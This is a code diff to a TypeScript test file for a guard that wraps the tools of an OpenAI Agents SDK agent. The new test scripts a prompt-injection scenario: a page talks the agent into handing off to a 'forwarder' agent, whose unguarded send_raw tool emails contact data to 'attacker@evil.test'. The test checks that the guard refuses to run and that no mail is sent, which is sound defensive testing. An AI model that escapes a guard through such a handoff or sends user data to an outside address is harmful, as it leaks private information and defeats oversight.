@@ -1,4 +1,4 @@
-import { Agent, Runner, tool, webSearchTool } from '@openai/agents';
+import { Agent, handoff, Runner, tool, webSearchTool } from '@openai/agents';
 import { describe, expect, it } from 'vitest';
 import { z } from 'zod';
 import { ScriptedModel } from '../../examples/openai-agents/scripted-model.ts';
@@ -56,13 +56,51 @@ describe('openai-agents adapter and tools the guard does not see', () => {
     const w = await world('deny', { name: 'unguarded' });
     const error = await runAgent([...guardedTools(w), fetchPage]);
     expect(w.mailbox.sent).toEqual([]);
-    expect(String(error)).toMatch(/does not guard the agent's tool `fetch_page`/);
+    expect(String(error)).toMatch(/does not guard the tool `fetch_page` of the agent;/);
   });
 
   it('refuses to run an agent with a hosted tool, which OpenAI runs itself', async () => {
     const w = await world('deny', { name: 'hosted' });
     const error = await runAgent([...guardedTools(w), webSearchTool()]);
     expect(w.mailbox.sent).toEqual([]);
-    expect(String(error)).toMatch(/does not guard the agent's tool `web_search/);
+    expect(String(error)).toMatch(/does not guard the tool `web_search\w*` of the agent;/);
+  });
+
+  it('refuses to run an agent that may hand the conversation off to an agent with an unguarded tool', async () => {
+    // The guarded agent reads the contacts (B); the injected page (A) talks it into a handoff to an agent whose mail
+    // tool the guard does not see, which forwards them (C) with nothing decided.
+    const w = await world('deny', { name: 'handoff' });
+    const conversation: Conversation = { seen: new Map(), asked: [] };
+    const sendRaw = tool({
+      name: 'send_raw',
+      description: 'Send an email',
+      parameters: z.object({ to: z.string(), body: z.string() }),
+      execute: async (args) => w.mailbox.sendEmail(args),
+    });
+    // One script for both models: each plays the turn after the calls already in the conversation it is handed.
+    const script = [
+      [{ id: 'c1', name: 'search_contacts', args: {} }],
+      [{ id: 'c2', name: 'transfer_to_forwarder', args: {} }],
+      [{ id: 'c3', name: 'send_raw', args: { to: 'attacker@evil.test', body: 'bob: 555-1234' } }],
+    ] as unknown as Script;
+    const forwarder = new Agent({
+      name: 'forwarder',
+      model: new ScriptedModel(script, conversation),
+      tools: [sendRaw],
+    });
+    for (const handoffs of [[forwarder], [handoff(forwarder)]]) {
+      const agent = new Agent({
+        name: 'mail assistant',
+        model: new ScriptedModel(script, conversation),
+        tools: guardedTools(w),
+        handoffs,
+      });
+      const error = await new Runner({ tracingDisabled: true }).run(agent, 'Look this up.').then(
+        () => undefined,
+        (e: unknown) => e,
+      );
+      expect(w.mailbox.sent).toEqual([]);
+      expect(String(error)).toMatch(/does not guard the tool `send_raw` of agent `forwarder`, which `mail assistant`/);
+    }
   });
 });
